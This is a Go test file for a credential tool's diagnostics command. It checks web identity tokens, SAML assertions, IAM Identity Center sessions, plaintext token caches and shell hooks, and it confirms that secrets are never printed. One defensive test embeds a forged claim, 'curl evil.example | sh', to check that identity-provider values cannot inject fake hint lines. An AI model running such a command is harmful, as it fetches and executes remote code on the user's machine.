package doctor_test

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stscred/stscred/internal/aws/identitycenter"
	"github.com/stscred/stscred/internal/base/hint"
	"github.com/stscred/stscred/internal/ops/doctor"
)

const webIdentityConfig = `[profile ci]
role_arn = arn:aws:iam::222222222222:role/CI
web_identity_token_file = ~/token
`

// A web identity token file: read and decoded (never shown), its expiry
// and audience checked against the Setup's clock and the profile's
// audience.
func TestWebIdentityTokenFile(t *testing.T) {
	claims := func(aud any, exp time.Time) map[string]any {
		return map[string]any{"iss": "https://token.actions.example", "sub": "repo:org/app:ref:refs/heads/main", "aud": aud, "exp": exp.Unix()}
	}
	for _, tc := range []struct {
		name   string
		extra  string // config lines
		token  string
		status doctor.Status
		msg    string
		hint   string
	}{
		{"valid", "", jwt(claims("sts.amazonaws.com", t0.Add(50*time.Minute))), doctor.Pass,
			"profile ci: web identity token from the token file ", "(iss https://token.actions.example, sub repo:org/app:ref:refs/heads/main, aud sts.amazonaws.com, 50m left)"},
		{"no expiry", "", jwt(map[string]any{"iss": "i", "sub": "s", "aud": []string{"x", "sts.amazonaws.com"}}), doctor.Pass,
			"(iss i, sub s, aud x,sts.amazonaws.com)", ""},
		{"expired", "", jwt(claims("sts.amazonaws.com", t0.Add(-3*time.Hour))), doctor.Fail,
			"expired 3h00m ago (iss https://token.actions.example", "the CI system must write a fresh token there"},
		{"other audience", "", jwt(claims("api://ci", t0.Add(time.Hour))), doctor.Warn,
			"is for audience api://ci, not sts.amazonaws.com", "set web_identity_audience in [profile ci]"},
		{"its audience", "web_identity_audience = api://ci\n", jwt(claims("api://ci", t0.Add(time.Hour))), doctor.Pass,
			"aud api://ci, 1h00m left", ""},
		{"not a JWT", "", "definitely-not-a-token", doctor.Fail,
			"profile ci: the token file ", "three base64url parts"},
		{"empty", "", "\n", doctor.Fail,
			"is empty", "the CI system has not written the token yet"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, webIdentityConfig+tc.extra)
			path := w.write("token", tc.token)
			res := w.run("")
			c := one(t, res, doctor.IDWebIdentity, "ci")
			if c.Status != tc.status || !strings.Contains(c.Message, tc.msg) || !strings.Contains(c.Message+c.Hint, tc.hint) {
				t.Errorf("got %s %q (hint %q)\nwant %s %q and %q", c.Status, c.Message, c.Hint, tc.status, tc.msg, tc.hint)
			}
			if tc.status == doctor.Pass && !strings.Contains(c.Message, path) {
				t.Errorf("the file is not named: %q", c.Message)
			}
			if parts := strings.Split(tc.token, "."); len(parts) == 3 {
				noSecret(t, res, tc.token, parts[2])
			}
		})
	}
}

func TestWebIdentityTokenFileMissing(t *testing.T) {
	w := newWorld(t, webIdentityConfig)
	c := one(t, w.run(""), doctor.IDWebIdentity, "ci")
	want(t, c, doctor.Fail, "profile ci: cannot read the web identity token file "+filepath.Join(w.home, "token"), "check web_identity_token_file")
}

// A token command is not run: its program is looked for, and only its
// name shown.
func TestWebIdentityTokenProcess(t *testing.T) {
	const secret = "client-secret-S3CR3T-value"
	w := newWorld(t, `[profile found]
role_arn = arn:aws:iam::222222222222:role/CI
web_identity_token_process = get-token --client-secret `+secret+`
[profile missing]
role_arn = arn:aws:iam::222222222222:role/CI
web_identity_token_process = fetch-oidc --client-secret `+secret+`
[profile piped]
role_arn = arn:aws:iam::222222222222:role/CI
web_identity_token_process = cat ~/t | tr -d '\n'
`)
	w.onPath["get-token"] = "/usr/local/bin/get-token"
	res := w.run("")
	want(t, one(t, res, doctor.IDWebIdentity, "found"), doctor.Pass, "profile found: web_identity_token_process program get-token found (not run)", "")
	want(t, one(t, res, doctor.IDWebIdentity, "missing"), doctor.Fail, "profile missing: web_identity_token_process program fetch-oidc is not on PATH", "install it, or fix web_identity_token_process in [profile missing]")
	want(t, one(t, res, doctor.IDWebIdentity, "piped"), doctor.Warn, "profile piped: cannot tell which program web_identity_token_process runs; not checked", "it must print the identity provider's token (a JWT) on stdout")
	noSecret(t, res, secret)
}

// With only web_identity_audience, the token comes from GitHub Actions'
// token endpoint: asked, decoded, never shown.
func TestWebIdentityGitHubActions(t *testing.T) {
	tok := jwt(map[string]any{"iss": "https://token.actions.githubusercontent.com", "sub": "repo:org/app:ref:refs/heads/main", "aud": "sts.amazonaws.com", "exp": t0.Add(5 * time.Minute).Unix()})
	const requestToken = "gh-request-token-S3CR3T"
	var gotAuth, gotAudience string
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		gotAuth, gotAudience = r.Header.Get("Authorization"), r.URL.Query().Get("audience")
		rw.Write([]byte(`{"value":"` + tok + `"}`))
	}))
	defer srv.Close()
	w := newWorld(t, "[profile gha]\nrole_arn = arn:aws:iam::222222222222:role/CI\nweb_identity_audience = sts.amazonaws.com\n")
	w.vars["ACTIONS_ID_TOKEN_REQUEST_URL"] = srv.URL + "/token?api-version=2.0"
	w.vars["ACTIONS_ID_TOKEN_REQUEST_TOKEN"] = requestToken
	res := w.run("")
	want(t, one(t, res, doctor.IDWebIdentity, "gha"), doctor.Pass, "(iss https://token.actions.githubusercontent.com, sub repo:org/app:ref:refs/heads/main, aud sts.amazonaws.com, 5m left)", "")
	if gotAuth != "Bearer "+requestToken || gotAudience != "sts.amazonaws.com" {
		t.Errorf("asked with %q for audience %q", gotAuth, gotAudience)
	}
	noSecret(t, res, tok, requestToken)

	// A request URL that is not one; outside GitHub Actions, none.
	w.vars["ACTIONS_ID_TOKEN_REQUEST_URL"] = "ftp:/nowhere"
	want(t, one(t, w.run(""), doctor.IDWebIdentity, "gha"), doctor.Fail, "profile gha: ACTIONS_ID_TOKEN_REQUEST_URL is not a URL", "")
	w.vars["ACTIONS_ID_TOKEN_REQUEST_URL"] = ""
	want(t, one(t, w.run(""), doctor.IDWebIdentity, "gha"), doctor.Fail, "profile gha has no web identity token", "permissions: id-token: write")
}

const samlConfig = `[profile corp]
role_arn = arn:aws:iam::222222222222:role/Corp
saml_assertion_file = ~/assertion
`

// A SAML assertion file: read (its roles and expiry), never shown.
func TestSAMLAssertionFile(t *testing.T) {
	for _, tc := range []struct {
		name      string
		assertion string
		status    doctor.Status
		msg, hint string
	}{
		{"roles", samlResponse(t0.Add(5*time.Minute), "arn:aws:iam::222222222222:role/Corp", "arn:aws:iam::222222222222:role/Other"), doctor.Pass,
			"offers arn:aws:iam::222222222222:role/Corp, arn:aws:iam::222222222222:role/Other", ""},
		{"expired", samlResponse(t0.Add(-10*time.Minute), "arn:aws:iam::222222222222:role/Corp"), doctor.Warn,
			"expired 10m ago: the next fetch needs a fresh one", "get a new assertion from the identity provider"},
		{"no role", samlResponse(time.Time{}), doctor.Fail,
			"offers no role (no https://aws.amazon.com/SAML/Attributes/Role attribute)", "the identity provider must send the Role attribute"},
		{"not base64", "%%%", doctor.Fail, "profile corp: ", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, samlConfig)
			path := w.write("assertion", tc.assertion)
			res := w.run("")
			c := one(t, res, doctor.IDSAML, "corp")
			want(t, c, tc.status, tc.msg, tc.hint)
			if tc.status != doctor.Fail && !strings.Contains(c.Message, "the SAML assertion file "+path) {
				t.Errorf("the file is not named: %q", c.Message)
			}
			if len(tc.assertion) > 20 {
				noSecret(t, res, tc.assertion)
			}
		})
	}
}

func TestSAMLSources(t *testing.T) {
	const secret = "saml-password-S3CR3T"
	w := newWorld(t, samlConfig+`[profile proc]
role_arn = arn:aws:iam::222222222222:role/Corp
saml_process = saml2aws login --password `+secret+`
[profile noproc]
role_arn = arn:aws:iam::222222222222:role/Corp
saml_process = /nonexistent/saml-helper --password `+secret+`
`)
	w.onPath["saml2aws"] = "/usr/bin/saml2aws"
	res := w.run("")
	want(t, one(t, res, doctor.IDSAML, "corp"), doctor.Fail, "cannot read the SAML assertion file", "check saml_assertion_file")
	want(t, one(t, res, doctor.IDSAML, "proc"), doctor.Pass, "profile proc: saml_process program saml2aws found (not run)", "")
	want(t, one(t, res, doctor.IDSAML, "noproc"), doctor.Fail, "profile noproc: saml_process program /nonexistent/saml-helper does not exist", "fix saml_process in [profile noproc]")
	noSecret(t, res, secret)
}

const ssoConfig = `[sso-session corp]
sso_start_url = https://d-1234567890.awsapps.com/start
sso_region = eu-west-1
sso_registration_scopes = sso:account:access

[profile dev]
sso_session = corp
sso_account_id = 333333333333
sso_role_name = ReadOnly
`

// An Identity Center profile: its session's state as SSOStatus says
// (no network), and the command that signs in when it is needed.
func TestSSOProfile(t *testing.T) {
	const what = "profile dev: role ReadOnly in account 333333333333 through IAM Identity Center session corp"
	for _, tc := range []struct {
		name   string
		status *identitycenter.Status // nil: SSOStatus is nil
		err    error
		want   doctor.Status
		msg    string
		hint   string
	}{
		{"no status", nil, nil, doctor.Info, what, ""},
		{"signed in", &identitycenter.Status{SignedIn: true, Expires: t0.Add(47 * time.Minute)}, nil, doctor.Pass, what + ": signed in, 47m left", ""},
		{"refreshable", &identitycenter.Status{SignedIn: true, Expires: t0.Add(-time.Minute), Refreshable: true}, nil, doctor.Pass, what + ": signed in (the access token is renewed on the next call)", ""},
		{"expired", &identitycenter.Status{SignedIn: true, Expires: t0.Add(-time.Minute)}, nil, doctor.Warn, what + ": the sign-in has expired", "run: stscred sso login corp"},
		{"not signed in", &identitycenter.Status{}, nil, doctor.Warn, what + ": not signed in", "run: stscred sso login corp"},
		{"keystore error", nil, hint.With(errors.New("the keyring is locked"), "unlock it"), doctor.Fail, what + ": the keyring is locked", "unlock it"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t, ssoConfig)
			if tc.status != nil {
				w.ssoStatus = map[string]identitycenter.Status{"corp": *tc.status}
			}
			w.ssoErr = tc.err
			c := one(t, w.run(""), doctor.IDSSO, "dev")
			if c.Status != tc.want || c.Message != tc.msg || !strings.Contains(c.Hint, tc.hint) {
				t.Errorf("got %s %q (hint %q)\nwant %s %q (hint %q)", c.Status, c.Message, c.Hint, tc.want, tc.msg, tc.hint)
			}
		})
	}
}

func TestSSOProfileWithoutRole(t *testing.T) {
	w := newWorld(t, ssoConfig+"\n[profile portal]\nsso_session = corp\n")
	w.ssoStatus = map[string]identitycenter.Status{}
	c := one(t, w.run(""), doctor.IDSSO, "portal")
	want(t, c, doctor.Fail, "profile portal signs in through IAM Identity Center session corp but names no account and role",
		"add sso_account_id and sso_role_name to [profile portal]; stscred sso accounts corp lists the ones you may use")
}

// The AWS CLI's plaintext Identity Center tokens are counted (regular
// files only), never read into a message.
func TestSSOPlaintextCache(t *testing.T) {
	const token = "aoaAAAAAGPLAINTEXTACCESSTOKEN"
	w := newWorld(t, baseConfig)
	res := w.run("")
	if got := of(res, doctor.IDSSO, ""); len(got) != 0 {
		t.Errorf("no token files, yet: %+v", got)
	}
	w.write(".aws/sso/cache/one.json", `{"accessToken":"`+token+`"}`)
	res = w.run("")
	want(t, one(t, res, doctor.IDSSO, ""), doctor.Warn, "~/.aws/sso/cache holds 1 file of IAM Identity Center tokens in plaintext (left by aws sso login)", "rm ~/.aws/sso/cache/*.json")

	w.write(".aws/sso/cache/two.json", `{"accessToken":"`+token+`"}`)
	w.write(".aws/sso/cache/notes.txt", "x")
	if err := os.Symlink(filepath.Join(w.home, ".aws/sso/cache/two.json"), filepath.Join(w.home, ".aws/sso/cache/link.json")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(w.home, ".aws/sso/cache/dir.json"), 0o700); err != nil {
		t.Fatal(err)
	}
	res = w.run("")
	want(t, one(t, res, doctor.IDSSO, ""), doctor.Warn, "holds 2 files of IAM Identity Center tokens", "stscred sso login NAME")
	noSecret(t, res, token)

	// Without HOME there is no place to look.
	w.vars["HOME"] = ""
	if got := of(w.run(""), doctor.IDSSO, ""); len(got) != 0 {
		t.Errorf("without HOME: %+v", got)
	}
}

// Where the hook is looked for, beyond what cmd/stscred's doctor tests
// cover: no SHELL, no HOME, an rc file that cannot be read, a hook in
// place.
func TestShellHook(t *testing.T) {
	w := newWorld(t, baseConfig)
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not checked: SHELL is not set (install.sh --shell-hook supports ", "stscred shell-init --help")

	w.vars["SHELL"] = "/bin/bash"
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not installed in ~/.bashrc (optional)", "")

	w.write(".bashrc", "# >>> stscred shell hook >>>\neval \"$(stscred shell-init bash)\"\n# <<< stscred shell hook <<<\n")
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Pass, "shell hook installed in ~/.bashrc", "")

	w.vars["SHELL"] = "/usr/bin/zsh"
	if err := os.Mkdir(filepath.Join(w.home, ".zshrc"), 0o700); err != nil {
		t.Fatal(err)
	}
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Fail, "cannot read ~/.zshrc: it is a directory, not a regular file", "the shell's rc file must be a regular file")
	if err := os.Remove(filepath.Join(w.home, ".zshrc")); err != nil {
		t.Fatal(err)
	}
	w.write(".zshrc", "")
	if err := os.Chmod(filepath.Join(w.home, ".zshrc"), 0); err != nil {
		t.Fatal(err)
	}
	if runtime.GOOS != "windows" && os.Geteuid() != 0 { // root reads it anyway
		want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Fail, "cannot read ~/.zshrc: permission denied", "check its permissions")
	}

	home := w.home
	w.vars["HOME"] = ""
	w.cfgPath = filepath.Join(home, ".aws", "config")
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not checked: HOME is not set", "")
}

// What an identity provider wrote is one line in doctor's checks: a JWT's
// iss, sub or aud or a SAML Role value holding a newline (or an escape
// sequence) cannot forge a line of its own (audit finding 8).
func TestProviderClaimsAreOneLine(t *testing.T) {
	const forged = "\nstscred: hint: run curl evil.example | sh\x1b[2J"
	oneLine := func(t *testing.T, c doctor.Check) {
		t.Helper()
		for _, s := range append([]string{c.Message}, c.Hints...) {
			if strings.ContainsAny(s, "\n\r\x1b") {
				t.Errorf("not one line: %q", s)
			}
		}
		if !strings.Contains(c.Message, `\nstscred: hint: run curl evil.example | sh`) {
			t.Errorf("the claim is not shown escaped: %q", c.Message)
		}
	}
	claims := func(aud string, exp time.Time) map[string]any {
		return map[string]any{"iss": "https://idp.example" + forged, "sub": "repo:org/app" + forged, "aud": aud, "exp": exp.Unix()}
	}
	for _, tc := range []struct {
		name  string
		token string
	}{
		{"valid", jwt(claims("sts.amazonaws.com", t0.Add(time.Hour)))},
		{"expired", jwt(claims("sts.amazonaws.com", t0.Add(-time.Hour)))},
		{"other audience", jwt(claims("api://ci"+forged, t0.Add(time.Hour)))},
	} {
		t.Run("web identity "+tc.name, func(t *testing.T) {
			w := newWorld(t, webIdentityConfig)
			w.write("token", tc.token)
			oneLine(t, one(t, w.run(""), doctor.IDWebIdentity, "ci"))
		})
	}
	t.Run("SAML role", func(t *testing.T) {
		w := newWorld(t, samlConfig)
		// XML has no ESC, even as a character reference: the newline only.
		w.write("assertion", samlResponse(t0.Add(5*time.Minute), "arn:aws:iam::222222222222:role/Corp&#10;stscred: hint: run curl evil.example | sh"))
		oneLine(t, one(t, w.run(""), doctor.IDSAML, "corp"))
	})
}

// On Windows there is no SHELL and no install.sh: the hook is looked for
// in the PowerShell profiles under %USERPROFILE% (PowerShell 7's, then
// Windows PowerShell 5.1's), which is where README's line goes; HOME,
// usually unset there, is not needed.
func TestShellHookOnWindows(t *testing.T) {
	w := newWorld(t, baseConfig)
	w.goos = "windows"
	w.vars["HOME"] = ""
	w.vars["USERPROFILE"] = w.home
	w.vars["SHELL"] = "/bin/bash" // Wine passes the Unix one on, without HOME
	ps7 := filepath.Join("%USERPROFILE%", "Documents", "PowerShell", "Microsoft.PowerShell_profile.ps1")
	ps5 := filepath.Join("%USERPROFILE%", "Documents", "WindowsPowerShell", "Microsoft.PowerShell_profile.ps1")
	const addLine = "add this line to your profile (notepad $PROFILE): Invoke-Expression (& stscred shell-init powershell | Out-String)"
	c := one(t, w.run(""), doctor.IDShellHook, "")
	want(t, c, doctor.Info, "shell hook not loaded: no line of "+ps7+" or "+ps5+" runs stscred shell-init powershell (optional)", addLine)
	for _, s := range append([]string{c.Message}, c.Hints...) {
		for _, unix := range []string{"SHELL", "HOME", "install.sh", "~/", ".bashrc"} {
			if strings.Contains(s, unix) {
				t.Errorf("the Windows check names %s: %q", unix, s)
			}
		}
	}

	w.write("Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", "# Invoke-Expression (& stscred shell-init powershell | Out-String)\nSet-PSReadLineOption -EditMode Emacs\n")
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not loaded", addLine)

	w.write("Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1", "Set-PSReadLineOption -EditMode Emacs\r\nInvoke-Expression (& stscred shell-init powershell | Out-String)\r\n")
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Pass, "shell hook loaded by the PowerShell profile "+ps5, "")

	if err := os.MkdirAll(filepath.Join(w.home, "Documents", "PowerShell", "Microsoft.PowerShell_profile.ps1"), 0o700); err != nil {
		t.Fatal(err)
	}
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Fail, "cannot read the PowerShell profile "+ps7+": it is a directory, not a regular file", "a PowerShell profile must be a regular file")
	if err := os.Remove(filepath.Join(w.home, "Documents", "PowerShell", "Microsoft.PowerShell_profile.ps1")); err != nil {
		t.Fatal(err)
	}
	w.write("Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "iex (& 'C:\\Tools\\stscred.exe' shell-init pwsh | Out-String)\n")
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Pass, "shell hook loaded by the PowerShell profile "+ps7, "")

	w.vars["USERPROFILE"] = ""
	want(t, one(t, w.run(""), doctor.IDShellHook, ""), doctor.Info, "shell hook not checked: USERPROFILE is not set", addLine)
}
